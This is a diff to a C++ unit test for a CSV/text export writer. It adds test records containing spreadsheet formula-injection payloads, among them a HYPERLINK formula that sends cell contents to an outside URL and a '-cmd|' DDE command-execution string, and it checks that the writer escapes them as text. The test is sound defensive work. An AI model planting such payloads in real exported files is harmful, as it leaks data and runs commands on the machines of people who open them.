@@ -292,13 +292,19 @@ void TestExportFiles::textFileBytes()
     file.WriteRecord({Plain(u"Zo\u00EB"_s), Plain(u"a\r\n\r\nb"_s), Amount(-12345000), Plain(u"42  "_s)});
     file.WriteRecord({Plain(u"Smith, J."_s), Plain(u"He said \"hi\""_s), Amount(0), Plain(u"7  "_s)});
     file.WriteRecord({Plain(u"\u20ACuro"_s), Plain(u"line1\nline2"_s), Amount(20000000), Plain(QString())});
+    // Texts a spreadsheet would run as formulas reach it as texts; numbers stay numbers.
+    file.WriteRecord({Plain(u"=HYPERLINK(\"http://x\"&A1,\"Pay\")"_s), Plain(u"@SUM(1)"_s), Amount(-10000),
+                      Plain(u"-7  "_s)});
+    file.WriteRecord({Plain(u"+1-2"_s), Plain(u"\t=1+1"_s), Amount(0), Plain(u"-cmd|' /C calc'!A0"_s)});
     QVERIFY(!QFile::exists(path));  // nothing under the chosen name before it is complete
     file.Commit();
 
     QCOMPARE(Contents(path), QByteArray("Name,Memo,\"Paid, total\",Count\r\n"
                                         "Zo\xEB,a;b,-1234.5,42  \r\n"
                                         "\"Smith, J.\",\"He said \"\"hi\"\"\",0,7  \r\n"
-                                        "\x80uro,\"line1\nline2\",2000,\r\n"));
+                                        "\x80uro,\"line1\nline2\",2000,\r\n"
+                                        "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"Pay\"\")\",'@SUM(1),-1,-7  \r\n"
+                                        "'+1-2,'\t=1+1,0,'-cmd|' /C calc'!A0\r\n"));
     QCOMPARE(Names(dir.path()), QStringList{u"results.txt"_s});
 }
 
